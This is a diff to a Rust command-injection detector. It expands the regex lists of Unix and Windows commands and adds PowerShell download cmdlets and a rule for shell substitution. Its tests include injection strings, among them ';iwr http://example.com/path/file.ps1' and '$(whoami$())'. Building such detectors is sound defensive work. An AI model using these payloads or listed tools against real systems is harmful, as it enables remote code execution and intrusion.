@@ -13,12 +13,12 @@ use crate::normalize::shell_normalize;
 const UNIX_COMMANDS: &str = "cat|ls|id|whoami|uname|pwd|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|ping|nslookup|dig|ifconfig|netstat|ps|kill|sleep|telnet|ssh|scp|tftp|base64|nmap|socat|busybox|awk|gawk|sed|printenv|hostname|crontab|useradd|passwd|sudo|uptime|xargs|chmod|chown|rm|mkfifo|mknod|nohup|getent|lsof|killall|pkill|systemctl|echo|printf|touch|cp|mv|tar|gzip|dd|timeout|expr";
 
 /// Windows commands that mean little else after a separator.
-const WINDOWS_COMMANDS: &str = r"cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|whoami|ipconfig|systeminfo|tasklist|net1?\s+(?:user|localgroup|group|view|share)|reg\s+(?:query|add|save)|schtasks|sc\s+(?:create|config|start)|nslookup|ping";
+const WINDOWS_COMMANDS: &str = r"cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|iwr|irm|iex|iwmi|invoke-webrequest|invoke-restmethod|invoke-wmimethod|start-bitstransfer|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|whoami|ipconfig|systeminfo|tasklist|net1?\s+(?:user|localgroup|group|view|share)|reg\s+(?:query|add|save)|schtasks|sc\s+(?:create|config|start)|nslookup|ping";
 
 /// A separator and a command: in a parameter, any use of the command.
 fn after_separator() -> String {
     format!(
-        r"(?:[;|`\n\r]|&&|\|\||\$\(|(?:^|\s)&)\s*(?:[\w./\\-]*[/\\])?(?:{UNIX_COMMANDS}|{WINDOWS_COMMANDS})(?:$|[\s;&|<>'`)]|\$\{{?ifs)"
+        r"(?:[;|`\n\r]|&&|\|\||\$\(|(?:^|\s)&)\s*(?:[\w./\\-]*[/\\])?(?:{UNIX_COMMANDS}|{WINDOWS_COMMANDS})(?:$|[\s;&|<>'`)$]|\$\{{?ifs)"
     )
 }
 
@@ -41,7 +41,11 @@ fn patterns(separator: &str) -> PatternSet {
         (separator, "command after a shell separator"),
         (r"\$\{?ifs\}?", "`$IFS` used as a space"),
         (
-            r"\bfor\s+(?:/[a-z]\s+(?:[a-z]:\\\S*\s+)?(?:\x22[^\x22]*\x22\s+)?)*%%?[\w~]+\s+in\s*\(",
+            r"[<>]\(\s*[a-z_]|\$\(\(|\$\[\s*(?:\]|[\d$(])|\$\{\w*[#%/^,@]",
+            "shell substitution or expansion",
+        ),
+        (
+            r"\bfor\s+(?:/[a-z]\s+(?:[a-z]:\\\S*\s+)?(?:\\?\x22[^\x22]*\x22\s+)?)*%%?\S*\s+in\s*\(",
             "Windows `for … in (…)` loop",
         ),
         (
@@ -113,10 +117,12 @@ fn clip(s: &str) -> String {
 }
 
 fn first_match(patterns: &PatternSet, value: &str) -> Option<String> {
+    // One word of letters and digits is no command line; words with spaces may be a
+    // Windows `if exist …`.
     if value.len() < 2
-        || value.bytes().all(|b| {
-            b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b',' | b'@' | b' ')
-        })
+        || value
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b',' | b'@'))
     {
         return None;
     }
@@ -151,6 +157,15 @@ mod tests {
             "FOR /D /D %a IN (dirs) DO abc",
             "& FOR %_ IN (a,b,c) DO cmd",
             "x & if exist c:\\boot.ini echo y",
+            "IF  EXIST data.xls  Echo The file was found.",
+            "& FOR %- IN (a,b,c)DO cmd",
+            "FOR /F \"tokens=1,2* delims=,\" %% IN (C:\\x.txt) DO ECHO %%",
+            ";iwr http://example.com/path/file.ps1",
+            "$(whoami$())",
+            "<(cat file)",
+            "${PATH#{}/}",
+            "$((1+1))",
+            "$[2+2]",
         ] {
             assert!(command_injection(p).is_some(), "missed {p}");
         }
@@ -185,6 +200,9 @@ mod tests {
             "don't stop",
             "for me in (brackets) do",
             "if only",
+            "if exists, fine",
+            "a <b> tag",
+            "price $[USD]",
         ] {
             assert_eq!(command_injection(v), None, "flagged {v}");
         }
